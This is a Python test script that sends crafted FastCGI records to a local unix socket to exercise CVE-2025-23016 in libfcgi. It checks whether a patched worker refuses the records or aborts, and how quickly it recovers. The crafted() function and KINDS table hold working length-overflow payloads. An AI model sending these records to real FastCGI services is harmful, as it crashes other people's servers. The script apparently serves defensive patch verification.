#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""fcgi_record.py: sends FastCGI records straight to Meridian's unix socket, bypassing nginx.

    python3 fcgi_record.py SOCKET crafted [KIND [N]]
        N connections (default 1), each sending BEGIN_REQUEST then a PARAMS record whose
        name and value lengths overflow (CVE-2025-23016; KIND below, default "abort");
        prints one line per connection: what the peer did and when the record was sent
        ("closed sent_ms=EPOCH_MS")
    python3 fcgi_record.py SOCKET recover [KIND]
        one crafted record, then well-formed requests until one is answered; prints
        "recovered_ms=N tries=N"
    python3 fcgi_record.py SOCKET get PATH
        a well-formed GET; prints the Status line

Loopback only: a unix socket path. Exit 0, or 1 if the socket cannot be reached.
"""
import socket
import struct
import sys
import time

FCGI_BEGIN_REQUEST, FCGI_PARAMS, FCGI_STDIN, FCGI_STDOUT, FCGI_END_REQUEST = 1, 4, 5, 6, 3


def record(rtype, content, req_id=1):
    return struct.pack(">BBHHBB", 1, rtype, req_id, len(content), 0, 0) + content


def begin():
    return record(FCGI_BEGIN_REQUEST, struct.pack(">HB5x", 1, 0))  # RESPONDER, no keep-conn


def length(n):
    return bytes([n]) if n < 128 else struct.pack(">I", n | 0x80000000)


def pair(name, value):
    return length(len(name)) + length(len(value)) + name + value


def talk(path, payload, timeout=5.0):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect(path)
    try:
        s.sendall(payload)
    except OSError as e:
        s.close()
        return "send failed: %s" % e.strerror, b""
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except ConnectionResetError:
        return "reset", data
    except socket.timeout:
        return "timeout", data
    finally:
        s.close()
    return ("closed" if not data else "answered"), data


# The PARAMS record's name and value lengths, per kind of crafted record. libfcgi 2.4.2 adds
# them as 32-bit ints and mallocs nameLen + valueLen + 2. Debian's fix for CVE-2025-23016
# (2.4.2-2+deb12u1) refuses a length of exactly 0x7fffffff; any other pair whose sum passes
# 0x7fffffff turns negative, malloc fails and libfcgi's ASSERT aborts the worker. (The sum
# can no longer wrap round to a small positive size, which was the heap overflow.)
KINDS = {
    "refused": (0x7FFFFFFF, 0x7FFFFFFF),   # what the fix refuses: the connection is closed
    "abort": (0x7FFFFFFE, 0x00000002),     # the sum is negative: the worker aborts
    "abort2": (0x7FFFFFFE, 0x7FFFFFFE),    # likewise, with both lengths near the limit
}


def crafted(kind):
    n, v = KINDS[kind]
    evil = struct.pack(">II", n | 0x80000000, v | 0x80000000) + b"A" * 4000
    return begin() + record(FCGI_PARAMS, evil)


def get(path):
    params = b"".join(pair(k.encode(), v.encode()) for k, v in [
        ("REQUEST_METHOD", "GET"), ("REQUEST_URI", path), ("DOCUMENT_URI", path),
        ("QUERY_STRING", ""), ("HTTP_HOST", "127.0.0.1"), ("REMOTE_ADDR", "127.0.0.1"),
        ("SERVER_PROTOCOL", "HTTP/1.1"), ("GATEWAY_INTERFACE", "CGI/1.1")])
    return (begin() + record(FCGI_PARAMS, params) + record(FCGI_PARAMS, b"") +
            record(FCGI_STDIN, b""))


def stdout_of(data):
    out, i = b"", 0
    while i + 8 <= len(data):
        _, t, _, n, p, _ = struct.unpack(">BBHHBB", data[i:i + 8])
        if t == FCGI_STDOUT:
            out += data[i + 8:i + 8 + n]
        i += 8 + n + p
    return out


def main():
    if len(sys.argv) < 3:
        print(__doc__)
        return 2
    path, what = sys.argv[1], sys.argv[2]
    try:
        if what == "crafted":
            kind = sys.argv[3] if len(sys.argv) > 3 else "abort"
            for _ in range(int(sys.argv[4]) if len(sys.argv) > 4 else 1):
                sent = time.time()
                how, _ = talk(path, crafted(kind), timeout=2.0)
                print("%s sent_ms=%d" % (how, sent * 1000))
        elif what == "recover":
            # One crafted record, then well-formed requests straight at the socket until
            # one is answered 200: prints the milliseconds that took.
            t0 = time.monotonic()
            talk(path, crafted(sys.argv[3] if len(sys.argv) > 3 else "abort"), timeout=2.0)
            tries = 0
            while time.monotonic() - t0 < 30:
                tries += 1
                how, data = talk(path, get("/_health"), timeout=10.0)
                if stdout_of(data).startswith(b"Status: 200"):
                    break
                time.sleep(0.005)
            print("recovered_ms=%d tries=%d" % ((time.monotonic() - t0) * 1000, tries))
        else:
            how, data = talk(path, get(sys.argv[3]))
            first = stdout_of(data).split(b"\r\n", 1)[0].decode("latin-1")
            print(first if first else how)
    except OSError as e:
        print("cannot connect: %s" % e, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
